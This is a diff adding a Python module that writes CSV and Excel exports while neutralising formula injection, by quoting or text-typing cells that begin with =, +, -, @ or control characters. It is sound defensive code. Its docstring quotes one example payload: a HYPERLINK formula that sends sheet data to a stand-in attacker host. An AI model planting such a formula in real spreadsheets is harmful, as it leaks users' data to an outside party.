@@ -1,0 +1,44 @@
+"""Writing the files people open in a spreadsheet program (.xlsx and CSV), so that no text someone typed into
+Kakehashi — a duty's title, a name, a region — runs as a formula there (formula injection: a cell such as
+`=HYPERLINK("http://evil.example/?x="&A1,"Click")` would send the sheet's data away when clicked)."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterable, Sequence
+
+from openpyxl import Workbook
+
+# A spreadsheet program reads a cell starting with these as a formula (or strips them and then does).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formula_like(value: object) -> bool:
+    return isinstance(value, str) and value.startswith(FORMULA_STARTS)
+
+
+def csv_text(value: object) -> object:
+    """CSV has no cell types: an apostrophe before formula-like text makes the spreadsheet read it as text."""
+    return "'" + value if isinstance(value, str) and formula_like(value) else value
+
+
+def csv_bytes(rows: Iterable[Sequence[object]]) -> bytes:
+    """UTF-8 with a BOM, so that Excel opens the Japanese text as UTF-8."""
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows([csv_text(value) for value in row] for row in rows)
+    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
+
+
+def workbook_bytes(book: Workbook) -> bytes:
+    """The workbook saved, with every formula-like cell stored as a text cell: its text is kept exactly, and the
+    quote prefix keeps Excel from turning it into a formula even when someone edits the cell."""
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if formula_like(cell.value):
+                    cell.data_type = "s"
+                    cell.quotePrefix = True
+    output = io.BytesIO()
+    book.save(output)
+    return output.getvalue()
